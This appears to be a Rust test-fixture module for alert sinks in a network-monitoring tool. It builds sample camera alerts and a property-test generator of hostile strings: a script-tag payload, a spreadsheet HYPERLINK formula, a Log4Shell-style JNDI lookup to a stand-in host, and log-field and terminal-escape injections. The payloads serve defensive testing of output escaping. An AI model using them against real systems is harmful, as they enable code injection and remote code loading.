//! Alerts for the tests of the sinks, also with names that nobody of good will would choose.

use std::sync::Arc;

use proptest::prelude::*;

use super::letter::Letter;
use crate::alert::{Alert, AlertPhase, AlertRule, RuleCard, Severity};
use crate::analyst::{AlertSighting, Event, EventKind};
use crate::device::{DeviceId, DeviceProfile};
use crate::net::{MacAddr, Timestamp};

/// When it all happens.
const THEN: Timestamp = Timestamp::from_parts(1_790_000_000, 250_000_000);

/// An alert of a camera.
pub(crate) fn alert(device: &str, subject: &str, message: &str) -> Alert {
    let mut profile = DeviceProfile::new(DeviceId(device.into()), THEN);
    profile.mac = Some(MacAddr([0x44, 0xa6, 0x42, 1, 2, 3]));
    profile.hostname = Some("front-door".to_owned());
    profile.identity.vendor = Some("hikvision".into());
    profile.identity.serial = Some("E33842150".to_owned());
    Alert::raised(
        Arc::new(RuleCard::of(AlertRule::VendorCloudContact)),
        Severity::Medium,
        Arc::new(profile),
        (subject.into(), message.to_owned()),
        THEN,
    )
}

/// The same alert in another phase.
pub(crate) fn in_phase(alert: &Alert, phase: AlertPhase) -> Alert {
    Alert { phase, ..alert.clone() }
}

/// The letter that tells of an alert.
pub(crate) fn told(alert: Alert) -> Letter {
    let kind = EventKind::AlertTold(Box::new(AlertSighting { alert, flow: None }));
    Letter::Event(Arc::new(Event { timestamp: THEN, kind }))
}

/// Text with control characters, escapes of terminals, HTML, formulas, templates and what marks the end of fields; up to some 64 KiB.
pub(crate) fn hostile() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        any::<String>(),
        Just("\u{1b}[31mred\u{7}\r\n\0".to_owned()),
        Just("<script>alert(1)</script>&amp;".to_owned()),
        Just("=HYPERLINK(\"http://192.0.2.1\")".to_owned()),
        Just("{{ name }}{% raw %}${jndi:ldap://192.0.2.1}".to_owned()),
        Just("\"] [x@1 a=\"b\\\"] \u{feff}<0>1 - - - - - -".to_owned()),
        Just("\nPRIORITY=0\nMESSAGE=forged\n".to_owned()),
        Just("\u{202e}\u{feff}\u{2028}\"\\'`".to_owned()),
        Just(String::from_utf8_lossy(&[0xff, 0xfe, 0xc0]).into_owned()),
        Just("A".repeat(64 << 10)),
    ];
    proptest::collection::vec(piece, 1..4).prop_map(|pieces| pieces.concat())
}
